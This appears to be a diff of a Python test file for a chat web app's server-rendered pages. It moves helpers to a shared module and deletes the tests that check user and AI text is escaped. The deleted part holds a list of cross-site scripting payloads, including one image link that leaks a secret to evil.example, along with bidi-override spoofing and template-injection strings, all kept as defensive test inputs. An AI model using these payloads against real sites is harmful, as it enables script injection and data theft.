@@ -1,4 +1,4 @@
-"""Pages: readable without scripts, and nothing that Claude or a person wrote becomes a tag or a script."""
+"""Pages are readable without scripts."""
 
 import re
 import threading
@@ -8,126 +8,14 @@ from urllib.parse import quote
 
 import pytest
 
-from api.access import Role
 from sessions.events import Noticed
 from sessions.topics import Topic
 from storage import Statement
-from tests.web.page_model import Element, parsed
-from tests.web.web_world import ADMIN, OTHER, OWNER, Browser, WebWorld, web_world
-from texts.markdown_html import MarkdownHtml
+from tests.web.page_check import check, every_element, send_form
+from tests.web.page_model import parsed
+from tests.web.web_world import ADMIN, OTHER, OWNER, WebWorld, web_world
 from texts.pieces import pieces_of
-from texts.unseen import as_seen
 from web.parts import WebOptions
-
-_TAG_WORDS = """
-a article b blockquote body br button caption code datalist dd details dialog div dl dt em fieldset figcaption
-figure footer form h1 h2 h3 h4 h5 h6 head header hr html input label legend li link main mark meta nav
-noscript ol option p pre progress rect root s script section select small span strong summary svg table
-tbody td textarea th thead time title tr ul
-"""
-_ATTR_WORDS = """
-action aria-current aria-hidden aria-label aria-labelledby autocomplete charset checked class colspan
-content data-act data-after data-again data-all data-anyway data-ask data-asks data-base data-body data-changes
-data-decision data-end data-group data-line data-list data-local data-method data-note data-number data-of
-data-on data-opens data-path data-pings data-post data-print data-question data-queue data-said data-session
-data-stays data-run data-sure data-then data-to datetime for height hidden href id inputmode lang list max
-maxlength method multiple name open placeholder preserveaspectratio rel required role rows scope selected src
-start target title type value viewbox width x y
-"""
-_TAGS, _ATTRS = frozenset(_TAG_WORDS.split()), frozenset(_ATTR_WORDS.split())
-_HOSTILE = (
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "<svg/onload=alert(1)>",
-    "[x](javascript:alert(1))",
-    "[x](data:text/html,<script>alert(1)</script>)",
-    "![](http://evil.example/?q=secret)",
-    "[paypal.de](https://evil.example)",
-    '"><script>alert(1)</script>',
-    "' onmouseover='alert(1)",
-    "</textarea><script>alert(1)</script>",
-    "`</code><script>alert(1)</script>`",
-    "```html\n</pre><script>alert(1)</script>\n```",
-    "<!--><script>alert(1)</script>-->",
-    "<a href='https://evil.example' style='position:fixed;inset:0'>x</a>",
-    "| <script>alert(1)</script> |\n|---|\n| <b onclick=alert(1)>x</b> |",
-    "<iframe srcdoc='<script>alert(1)</script>'>",
-    "[ref]\n\n[ref]: javascript:alert(1)",
-    "<https://evil.example/<script>>",
-    "\u202egnp.exe\u2066",
-    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
-    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "</title></style></template><script>alert(1)</script>",
-    "<scr\x00ipt>alert(1)</scr\x00ipt>\x00",
-    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
-    "[x](JaVa&#115;cript:alert(1)) [x](java&Tab;script:alert(1)) [x](&#x6A;avascript:alert(1)) [x](vbscript:x)",
-    "<javascript:alert(1)> <data:text/html,x> <vscode://file/x> <ms-msdt:/id>",
-    "[x](data:image/png;base64,AAAA) [x](blob:https://a/b) [x](view-source:https://a) [x](vscode://file/x)",
-    "[x]( <ms-msdt:/id> ) [a][r] [r]\n\n[r]: vscode://file/x 'y'",
-    "[![x](https://evil.example/i.png)](intent://x#Intent;scheme=https;end)",
-    "[x](https://ok.example '\" onmouseover=\"alert(1)')",
-    '~~~js" onclick=alert(1)\nx\n~~~',
-    "\x1b[31mred\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
-    "${alert(1)} {{constructor.constructor('alert(1)')()}} #{7*7} <%= 7 %> {x=>alert(1)}",
-)
-_SECRETLY = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
-
-
-def check(element: Element) -> None:
-    """Every tag and attribute of the page is one that we write, and every address is harmless."""
-    assert element.tag in _TAGS, element.tag
-    for name, value in element.attrs.items():
-        assert name in _ATTRS, (element.tag, name)
-        if name in ("href", "src", "action"):
-            assert (value or "").startswith(("/", "./", "?", "#", "https://", "http://", "mailto:")), value
-    assert element.tag != "script" or (element.attrs.get("src") or "").startswith("/static/")
-    for part in element.parts:
-        if isinstance(part, Element):
-            check(part)
-
-
-@pytest.mark.parametrize("text", _HOSTILE)
-def test_hostile_markdown_stays_text(text: str) -> None:
-    html = MarkdownHtml().render(as_seen(text))
-    assert not _SECRETLY.search(html)
-    check(parsed(html))
-
-
-async def test_hostile_text_stays_text(world: WebWorld) -> None:
-    """In answers, prompts, titles, names of people, templates, their places, tokens and browsers."""
-    world.roles[OWNER], world.names[OWNER] = Role.ADMIN, "</h2><script>alert(1)</script>\u202e"
-    ann = await world.browser(OWNER)
-    said = "\n\n".join(each for each in _HOSTILE if "{" not in each and "\x00" not in each)
-    session = await world.session_of(ann, f"demo:text {{{said}}}")
-    await world.settled(ann, session)
-    for text in _HOSTILE:
-        world.parts.commands.forget_all()
-        await ann.done("PATCH", f"/api/sessions/{session}", {"title": text})
-        wish = {"name": text[:60], "text": f"{text} {{{text[:30]}}}", "project": ""}
-        template = (await ann.done("POST", "/api/prompt-templates", wish))["id"]
-        await ann.done("POST", "/api/tokens", {"name": text[:80], "scope": "read"})
-        for path in ("/", f"/?text={quote(text[:3])}", f"/templates/{template}"):
-            await _is_ours(ann, path)
-    agent = {"User-Agent": _HOSTILE[0]}
-    code = await world.parts.doors.make_code(OWNER)
-    assert (await ann.send("POST", "/api/logins", {"code": code, "confirmed": True}, agent))[0] == 200
-    for path in (f"/chat/{session}", "/doors", "/admin", "/login", "/templates"):
-        await _is_ours(ann, path)
-    draft = await ann.done("POST", f"/api/sessions/{session}/pages", {"tools": True, "thinking": True})
-    page_id = draft["id"]
-    done = await ann.done("POST", f"/api/sessions/{session}/pages/{page_id}/publish", {})
-    status, page = await (await world.stranger()).send("GET", f"/shared/{done['token']}")
-    assert status == 200
-    check(parsed(page))
-    assert "<script" not in page
-
-
-async def _is_ours(browser: Browser, path: str) -> None:
-    status, page = await browser.send("GET", path)
-    assert status == 200, path
-    check(parsed(page))
-    assert not _SECRETLY.search(page), path
 
 
 async def test_a_page_is_previewed_published_opened_and_taken_back_without_scripts(world: WebWorld) -> None:
@@ -137,14 +25,16 @@ async def test_a_page_is_previewed_published_opened_and_taken_back_without_scrip
     place = f"/chat/{session}/share"
     page = await ann.done("GET", place)
     check(parsed(page))
-    preview = await _form(ann, place, {"tools": "on", "take_out": "answer", "until": "1"})
+    preview = await send_form(ann, place, {"tools": "on", "take_out": "answer", "until": "1"})
     check(parsed(preview))
     assert "Taken out: 3 secrets, 3 words." in preview
-    hidden_fields = (each.attrs for each in _all(parsed(preview)) if each.attrs.get("type") == "hidden")
+    hidden_fields = (
+        each.attrs for each in every_element(parsed(preview)) if each.attrs.get("type") == "hidden"
+    )
     fields = {each["name"] or "": each["value"] or "" for each in hidden_fields}
-    published = await _form(ann, f"{place}/publish", {**fields, "days": "7"})
+    published = await send_form(ann, f"{place}/publish", {**fields, "days": "7"})
     check(parsed(published))
-    links = (each.attrs.get("href") or "" for each in _all(parsed(published)))
+    links = (each.attrs.get("href") or "" for each in every_element(parsed(published)))
     (address,) = (link for link in links if "/shared/" in link)
     async with reader.http.get(address) as answer:
         text, headers = await answer.text(), answer.headers
@@ -167,31 +57,25 @@ async def test_a_page_is_previewed_published_opened_and_taken_back_without_scrip
         check(parsed(await answer.text()))
 
 
-async def _form(browser: Browser, path: str, fields: dict[str, str]) -> str:
-    """Send a form as a browser without scripts does; return the page that it leads to."""
-    headers = {"Origin": browser.origin, "Sec-Fetch-Site": "same-origin"}
-    async with browser.http.post(f"{browser.address}{path}", data=fields, headers=headers) as answer:
-        assert answer.status == 200, await answer.text()
-        return await answer.text()
-
-
 async def test_a_template_is_saved_filled_and_begins_a_session_without_scripts(world: WebWorld) -> None:
     ann, ben = await world.browser(ADMIN), await world.browser(OTHER)
     key = {"key": "a-key-of-a-form"}
     text = "demo:text <b>{what}</b> and {the rest}"
-    page = await _form(ann, "/templates", {**key, "name": "<i>Try</i>", "text": text, "for_all": "on"})
+    page = await send_form(ann, "/templates", {**key, "name": "<i>Try</i>", "text": text, "for_all": "on"})
     check(parsed(page))
     (template,) = (await ann.done("GET", "/api/prompt-templates"))["templates"]
     place = f"/templates/{template['id']}"
     form = await ben.done("GET", place)
     check(parsed(form))
-    asked = await _form(ben, place, {**key, "place0": "one"})
+    asked = await send_form(ben, place, {**key, "place0": "one"})
     assert "Fill in “the rest”." in asked
-    begun = await _form(ben, place, {**key, "place0": "one", "place1": "{what}"})
+    begun = await send_form(ben, place, {**key, "place0": "one", "place1": "{what}"})
     assert "&lt;b&gt;one&lt;/b&gt; and {what}" in begun
     (session,) = (await ben.done("GET", "/api/sessions"))["sessions"]
     await world.settled(ben, session["id"])
-    await _form(ben, place, {"key": "another-key", "session": session["id"], "place0": "two", "place1": "x"})
+    await send_form(
+        ben, place, {"key": "another-key", "session": session["id"], "place0": "two", "place1": "x"}
+    )
     view = await world.settled(ben, session["id"])
     assert len(view["userInputs"]) == 2
     check(parsed(await ann.done("GET", f"/templates?edit={template['id']}")))
@@ -208,30 +92,32 @@ async def test_a_clean_up_is_shown_before_it_is_done_without_scripts(world: WebW
     check(parsed(page))
     fields = {
         each.attrs["name"] or "": each.attrs["value"] or ""
-        for each in _all(parsed(page))
+        for each in every_element(parsed(page))
         if each.attrs.get("type") == "hidden"
     }
     assert fields["ids"] == session
     assert "There is no such session" in await ben.done("GET", "/cleanup?verb=delete&days=0")
     assert (await ben.send("GET", "/cleanup?verb=delete&all=on"))[0] == 403
-    assert "0 sessions deleted" in await _form(ben, "/cleanup", fields)
-    assert "1 session deleted" in await _form(ann, "/cleanup", fields)
+    assert "0 sessions deleted" in await send_form(ben, "/cleanup", fields)
+    assert "1 session deleted" in await send_form(ann, "/cleanup", fields)
     assert (await ann.send("GET", f"/api/sessions/{session}"))[0] == 404
 
 
 async def test_a_rule_is_kept_for_each_day_changed_and_removed_without_scripts(world: WebWorld) -> None:
     ann, ben, root = [await world.browser(each) for each in (OWNER, OTHER, ADMIN)]
     fields = {"key": "a-key-of-the-page", "verb": "delete", "days": "30", "mb": "0", "project": "<b>site</b>"}
-    page = await _form(ann, "/cleanup/rules", fields)
+    page = await send_form(ann, "/cleanup/rules", fields)
     check(parsed(page))
     assert "Delete ended sessions for good, not used for 30 days, of project &lt;b&gt;site&lt;/b&gt;" in page
     assert "It has not run yet." in page
-    again = await _form(ann, "/cleanup/rules", {**fields, "key": "another-key"})
+    again = await send_form(ann, "/cleanup/rules", {**fields, "key": "another-key"})
     assert again.count("It has not run yet.") == 1
     (rule,) = (await ann.done("GET", "/api/cleanup/rules"))["rules"]
     assert "It has not run yet." not in await ben.done("GET", "/cleanup")
     assert OWNER in await root.done("GET", "/cleanup")
-    assert "less than" not in await _form(ann, "/cleanup/rules", {**fields, "rule": rule["id"], "days": "60"})
+    assert "less than" not in await send_form(
+        ann, "/cleanup/rules", {**fields, "rule": rule["id"], "days": "60"}
+    )
     (changed,) = (await ann.done("GET", "/api/cleanup/rules"))["rules"]
     assert (changed["id"], changed["rule"]["olderThanDays"]) == (rule["id"], 60)
     look = f"/cleanup?rule={rule['id']}&verb=delete&days=60"
@@ -241,7 +127,7 @@ async def test_a_rule_is_kept_for_each_day_changed_and_removed_without_scripts(w
         assert (await ann.send("POST", "/api/cleanup/rules", wrong))[0] in (403, 422)
     world.now_ms[0] = 13 * 3_600_000
     assert (await ann.send("POST", "/api/cleanup/rules", {"verb": "delete"}))[1]["code"] == "fresh_login_needed"
-    page = await _form(ann, "/cleanup/rules", {"key": "a-third-key", "act": "remove", "rule": rule["id"]})
+    page = await send_form(ann, "/cleanup/rules", {"key": "a-third-key", "act": "remove", "rule": rule["id"]})
     assert "Each day" not in page
 
 
@@ -249,7 +135,10 @@ async def test_a_turns_time_is_a_page_behind_the_time_below_the_answer(world: We
     ann, ben = await world.browser(OWNER), await world.browser(OTHER)
     session = await world.session_of(ann, "demo:sleep 0.05 demo:text hello")
     await world.settled(ann, session)
-    links = (each.attrs.get("href") or "" for each in _all(parsed(await ann.done("GET", f"/chat/{session}"))))
+    links = (
+        each.attrs.get("href") or ""
+        for each in every_element(parsed(await ann.done("GET", f"/chat/{session}")))
+    )
     (link,) = (each for each in links if each.endswith("/timing"))
     place = f"/chat/{link.removeprefix('./')}"
     page = await ann.done("GET", place)
@@ -305,12 +194,14 @@ async def test_below_a_path_every_address_of_every_page_is_below_it(tmp_path: Pa
             ),
             f"/shared/{shared['token']}",
         ):
-            for element in _all(parsed(await ann.done("GET", path))):
+            for element in every_element(parsed(await ann.done("GET", path))):
                 for name in ("href", "src", "action"):
                     value = element.attrs.get(name) or ""
                     is_ours = value.startswith("/") and value != "/etc"
                     assert not is_ours or value.startswith("/x/y/"), (path, value)
-        begun = await _form(ann, f"/templates/{template}", {"key": "a-key-of-a-form", "place0": "demo:text hi"})
+        begun = await send_form(
+            ann, f"/templates/{template}", {"key": "a-key-of-a-form", "place0": "demo:text hi"}
+        )
         assert "demo:text hi" in begun
 
 
@@ -321,14 +212,14 @@ async def test_a_search_leads_to_the_place_with_the_words_marked(world: WebWorld
         await world.core.db.write([_turn(session, number + 2)])
     await world.settled(ann, session)
     page = await ann.done("GET", "/?text=token+here")
-    links = [each.attrs["href"] or "" for each in _all(parsed(page)) if each.tag == "a"]
+    links = [each.attrs["href"] or "" for each in every_element(parsed(page)) if each.tag == "a"]
     (link,) = (each for each in links if "#b-" in each)
     place, _, element = link.partition("#")
     opened = await ann.done("GET", place)
     check(parsed(opened))
     block = parsed(opened).find(element)
     assert block is not None
-    marks = [each.parts for each in _all(block) if each.tag == "mark"]
+    marks = [each.parts for each in every_element(block) if each.tag == "mark"]
     assert marks == [["token"], ["here"]]
     assert "To the newest turns" in opened
     assert (await ben.send("GET", place))[0] == 404
@@ -345,37 +236,6 @@ def _turn(session: str, number: int) -> Statement:
     )
 
 
-async def test_hostile_asks_stay_text(world: WebWorld) -> None:
-    ann = await world.browser(OWNER)
-    for prompt in (
-        "demo:bash touch '<script>alert(1)</script>\u202e'",
-        "demo:plan <script>alert(1)</script>",
-    ):
-        session = await world.session_of(ann, prompt)
-        await world.asked(session)
-        page = await ann.done("GET", f"/chat/{session}")
-        check(parsed(page))
-        assert "&lt;script&gt;" in page
-        assert "\u202e" not in page
-
-
-async def test_places_of_the_machine_stay_there(world: WebWorld) -> None:
-    ann = await world.browser(OWNER)
-    session = await world.session_of(ann)
-    place = (await world.core.manager.get_session(session)).snapshot.work_directory
-    prompt = f"demo:write {place}/deep/notes.md words demo:bash touch {place}/x"
-    await ann.done("POST", f"/api/sessions/{session}/messages", {"content": prompt})
-    await world.asked(session)
-    page = await ann.done("GET", f"/chat/{session}")
-    turns = parsed(page).find("turns")
-    assert turns is not None
-    for element in _all(turns):
-        if "prompt" not in (element.attrs.get("class") or "") and "text" not in (
-            element.attrs.get("class") or ""
-        ):
-            assert not any(place in part for part in element.parts if isinstance(part, str)), element
-
-
 @pytest.mark.parametrize("path", ["/chat/nope", "/nowhere"])
 async def test_a_person_reads_a_refusal_as_a_page_and_a_program_as_a_problem(
     world: WebWorld, path: str
@@ -387,13 +247,6 @@ async def test_a_person_reads_a_refusal_as_a_page_and_a_program_as_a_problem(
     check(parsed(seen[1]))
     assert problem["title"] in seen[1]
     assert 'href="/"' in seen[1]
-
-
-def _all(element: Element) -> Iterator[Element]:
-    yield element
-    for part in element.parts:
-        if isinstance(part, Element):
-            yield from _all(part)
 
 
 async def test_a_reader_without_scripts_reads_and_prompts(world: WebWorld) -> None:
@@ -429,7 +282,7 @@ async def test_a_very_long_answer_is_cut_with_a_link_to_all_of_it(
     page = await ann.done("GET", f"/chat/{session}")
     check(parsed(page))
     assert len(page) < 150_000
-    links = (each.attrs.get("href") or "" for each in _all(parsed(page)))
+    links = (each.attrs.get("href") or "" for each in every_element(parsed(page)))
     (link,) = {each for each in links if "/blocks/" in each}
     (block,) = (await ann.done("GET", f"/api/sessions/{session}/turns/{link.split('/')[4]}"))["blocks"]
     text = block["block"]["text"]
